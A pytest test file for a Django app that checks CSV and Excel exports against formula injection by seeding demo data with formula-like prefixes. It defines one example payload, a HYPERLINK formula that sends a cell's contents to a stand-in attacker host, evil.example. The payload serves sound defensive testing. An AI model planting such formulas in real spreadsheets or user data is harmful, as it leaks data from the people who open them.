"""Every spreadsheet and CSV export writes user text that looks like a formula as text
(OWASP CSV injection): a nominee called ``=HYPERLINK(...)`` must not become a live formula.

The demo province is loaded, then every text a user can type that reaches an export is
given a formula-like prefix; each export is downloaded through the HTTP client and every
cell is checked: in CSV the cell starts with an apostrophe, in .xlsx the workbook holds no
formula at all and each such cell is a string with Excel's quote prefix."""

import csv
import io
import zipfile

import pytest
from django.db.models import F, Value
from django.db.models.functions import Concat
from openpyxl import load_workbook

from accounts.models import AdministrativeArea, Organisation
from awards.models import Commendation, Nomination
from learnsociety.exports import FORMULA_PREFIXES, safe_text
from programme.models import Commitment, Indicator

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PREFIXED = ["=1+", "+1+", "-1+", "@SUM(", "\tx", "\rx"]


@pytest.fixture
def poisoned(demo):
    """Every name, title and nominee of the demo data begins with a formula-like prefix."""
    Organisation.objects.update(name=Concat(Value("=1+"), F("name")))
    AdministrativeArea.objects.update(name=Concat(Value("=2+"), F("name")))
    Commitment.objects.update(title=Concat(Value("+1+"), F("title")))
    Indicator.objects.update(name=Concat(Value("-1+"), F("name")))
    Nomination.objects.update(nominee_name=Concat(Value("@SUM("), F("nominee_name")))
    Commendation.objects.update(nominee_name=Value(ATTACK))
    return demo


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _assert_csv_safe(content: bytes) -> int:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_PREFIXES)] == []
    quoted = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_PREFIXES)]
    return len(quoted)


def _assert_xlsx_safe(content: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            assert b"<f>" not in archive.read(name), f"a formula in {name}"
    book = load_workbook(io.BytesIO(content))
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix is True, (sheet.title, cell.coordinate)
                    found += 1
    return found


LIST_EXPORTS = ["commitments", "schools", "assessments", "nominations", "commendations"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", LIST_EXPORTS)
def test_list_export_writes_formula_like_text_as_text(poisoned, client, name, fmt):
    client.force_login(poisoned["staff"])
    response = client.get(f"/dashboard/export/{name}/?format={fmt}")
    assert response.status_code == 200
    check = _assert_csv_safe if fmt == "csv" else _assert_xlsx_safe
    assert check(_body(response)) > 0


def test_commendation_csv_keeps_the_name_readable_behind_one_apostrophe(poisoned, client):
    client.force_login(poisoned["staff"])
    content = _body(client.get("/dashboard/export/commendations/?format=csv"))
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    names = {cell for row in rows[1:] for cell in row if "HYPERLINK" in cell}
    assert names == {"'" + ATTACK}


@pytest.mark.parametrize(
    "url",
    [
        "/units/schools/?export=xlsx",
        "/programme/target-vs-actual.xlsx?period=2025",
        "/dashboard/report.xlsx",
        "/awards/register/export/",  # the register's former address: the list's export
    ],
)
def test_report_workbook_writes_formula_like_text_as_text(poisoned, client, url):
    client.force_login(poisoned["staff"])
    response = client.get(url, follow=True)
    assert response.status_code == 200
    assert _assert_xlsx_safe(_body(response)) > 0
    assert response["Cache-Control"] == "no-store, private"


def test_register_export_keeps_the_exact_name(poisoned, client):
    client.force_login(poisoned["staff"])
    response = client.get("/awards/register/export/", follow=True)
    book = load_workbook(io.BytesIO(_body(response)))
    names = {row[3] for row in book.active.iter_rows(min_row=2, values_only=True)}
    assert names == {ATTACK}


@pytest.mark.parametrize("prefix", PREFIXED)
def test_safe_text_prefixes_every_formula_start(prefix):
    assert safe_text(prefix + "A1") == "'" + prefix + "A1"


def test_safe_text_leaves_ordinary_text_alone():
    assert safe_text("Trường THCS Chiềng Lề") == "Trường THCS Chiềng Lề"
    assert safe_text("'=A1") == "'=A1"


def test_every_workbook_is_saved_through_the_safe_writer():
    """A new export that builds an openpyxl workbook must save it with
    learnsociety.exports.save_workbook / workbook_response (or stream it with
    xlsx_response), which write formula-like text as text."""
    from pathlib import Path

    from django.conf import settings

    offenders = []
    for path in Path(settings.BASE_DIR).glob("*/**/*.py"):
        parts = path.relative_to(settings.BASE_DIR).parts
        if parts[0] in {".venv", "tests", "bench", "tools"} or "migrations" in parts:
            continue
        if path == Path(settings.BASE_DIR) / "learnsociety" / "exports.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "import Workbook" in source and not (
            "save_workbook" in source or "workbook_response" in source
        ):
            offenders.append(str(path.relative_to(settings.BASE_DIR)))
    assert offenders == []
